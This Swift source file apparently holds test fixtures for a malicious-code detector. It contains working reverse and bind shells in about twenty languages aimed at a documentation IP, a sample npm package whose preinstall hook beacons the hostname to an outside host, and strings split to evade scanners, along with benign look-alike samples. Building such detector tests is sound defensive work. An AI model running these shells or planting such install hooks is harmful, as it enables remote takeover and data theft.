/// Texts that look malicious, joined at run time so that no scanner finds them in this file.
enum MaliceSamples {
    private static let dev = "/dev/" + "tcp/"
    private static let address = "203.0.113." + "7"

    /// Shells handed to somebody else, one a language or tool, with a path that names nothing.
    static let reverseShells: [(name: String, text: String)] = [
        ("bash", "bash " + "-i >& \(dev)\(address)/4242 0>&1"),
        ("descriptors", "exec 5<>" + "\(dev)\(address)/4242;cat <&5 | while read line; do $line 2>&5 >&5; done"),
        ("netcat", "n" + "c -e /bin/sh \(address) 4242"),
        ("netcat behind", "nca" + "t \(address) 4242 -e /bin/bash"),
        ("pipe", "mkfi" + "fo /tmp/f;cat /tmp/f|sh -i 2>&1|n" + "c \(address) 4242 >/tmp/f"),
        ("socat", "soc" + "at TCP:\(address):4242 EXEC:sh"),
        ("telnet", "teln" + "et \(address) 8080 | /bin/sh | teln" + "et \(address) 8081"),
        ("zsh", "zsh -c 'zmod" + "load zsh/net/tcp && ztcp \(address) 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
        ("awk", "awk 'BEGIN {s = \"/inet/" + "tcp/0/\(address)/4242\"; s |& getline c }' /dev/null"),
        (
            "python",
            "import socket,os,pty\ns=socket.socket()\ns.conn" + "ect((\"\(address)\",4242))\nos.du"
                + "p2(s.fileno(),0)\npty.sp" + "awn(\"/bin/sh\")\n"
        ),
        (
            "ruby",
            "ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSo" + "cket.new(\"\(address)\",4242))'"
        ),
        ("php", "<?php $s=fsock" + "open(\"\(address)\",4242);ex" + "ec(\"/bin/sh -i <&3 >&3 2>&3\");"),
        (
            "powershell",
            "$c = New-Object System.Net.Sock" + "ets.TCPClient(\"\(address)\",4242);$s = $c.GetStr" + "eam()"
        ),
        (
            "node",
            "const net = require('net'), sh = require('child_pro" + "cess').spawn('/bin/sh'); const c = new net.Soc"
                + "ket(); c.connect(4242, '\(address)', () => { c.pi" + "pe(sh.stdin); sh.stdout.pi" + "pe(c) })"
        ),
        (
            "go",
            "package main\nfunc main() { c, _ := net.Di" + "al(\"tcp\", \"\(address):4242\"); e := exec.Comm"
                + "and(\"/bin/sh\"); e.Std" + "in = c; e.Run() }"
        ),
        ("terminal", "xte" + "rm -display \(address):1"),
        (
            "bash with variables",
            "exec 3<>\"\(dev)$H/$P\"\nwhile read -r c <&3; do\n  ev" + "al \"$c\" >&3 2>&1\ndone\n"
        ),
        (
            "lua that listens",
            "local s = socket.bi" + "nd('*', 4242)\nlocal c = s:accept()\nwhile true do\n  local l = c:rece" + "ive()\n"
                + "  local f = io.po" + "pen(l)\n  c:send(f:read('*a'))\nend\n"
        ),
        (
            "powershell that listens",
            "$l = [System.Net.Sockets.TcpLis" + "tener]4242\n$l.Start()\n$s = $l.AcceptTcpClient().GetStr"
                + "eam()\n$o = (Invoke-Expre" + "ssion $d | Out-String)\n"
        ),
        (
            "perl that listens",
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);bind(S,sockaddr_in(4242,INADDR_ANY));listen(S,3);accept(C,S);"
                + "open(ST" + "DIN,\">&C\");open(STDOUT,\">&C\");exec(\"/bin/sh -i\");"
        ),
    ]

    /// A program text in base64, as `echo … | base64 -d | sh` carries it.
    static func base64(_ text: String) -> String {
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
        let bytes = Array(text.utf8)
        return stride(from: 0, to: bytes.count, by: 3).map { start -> String in
            let group = bytes[start..<min(start + 3, bytes.count)]
            let value = group.enumerated().reduce(0) { $0 | Int($1.element) << (16 - 8 * $1.offset) }
            return (0..<4).map { index in
                index <= group.count ? String(alphabet[value >> (18 - 6 * index) & 63]) : "="
            }.joined()
        }.joined()
    }

    /// The files of a package whose install hook reports the machine.
    static let beacon: [(path: String, text: String)] = [
        (
            "package.json",
            "{\"name\": \"corp\", \"version\": \"1.0.0\", \"scripts\": {\"pre" + "install\": \"node a.js\"}}"
        ),
        (
            "a.js",
            "const os = require('os'); const http = require('http');\n"
                + "http.get('http://log.example.net/?' + os.host" + "name(), () => {});\n"
        ),
    ]

    /// Texts that do what malice does, for good reasons.
    static let harmless: [(path: String, text: String)] = [
        (
            "setup.py",
            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['cmake', '--build', '.'])\nsetup()\n"
        ),
        ("client.py", "import requests\ndef load(url):\n    return requests.get(url, timeout=5).json()\n"),
        (
            "install.sh",
            "#!/bin/sh\nset -e\ntmp=$(mktemp -d)\ntrap 'rm -rf \"$tmp\"' EXIT\ncurl -o \"$tmp/a\" https://example.org/a\n"
        ),
        (
            "test_eval.py",
            "def test_it():\n    assert eval('1 + 1') == 2\n    assert base64.b64decode('aGk=') == b'hi'\n"
        ),
        ("a.min.js", "!function(e,t){e.a=function(n){return String.fromCharCode(n+29)},t.exec(e)}(this,/a/);"),
        ("postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then adduser --system app; fi\n"),
        ("notes.md", "Run `curl -sSf https://sh.example.org | sh` to install it.\n"),
        ("exec.js", "const m = /a(b)/.exec(text); const data = Buffer.from(body, 'base64');\n"),
        ("deploy.yml", "- hosts: all\n  tasks:\n    - ansible.builtin.user:\n        name: app\n"),
        (
            "release.sh",
            "#!/bin/sh\nset -e\nrelease=$(uname -r)\ngrep -q '^root:' /etc/passwd\nprintf '[%s] done\\n' \"$release\"\n"
        ),
        ("Worker.go", "package main\nfunc main() { out, _ := exec.Command(name, args...).Output(); use(out) }\n"),
        ("Report.ps1", "$files = Get-ChildItem -Path $Root -Recurse\nWrite-Host \"found`n$($files.Count)`tfiles\"\n"),
        ("Daemon.py", "os.dup2(devnull.fileno(), sys.stdin.fileno())\nsubprocess.Popen(['worker'])\n"),
    ]
}
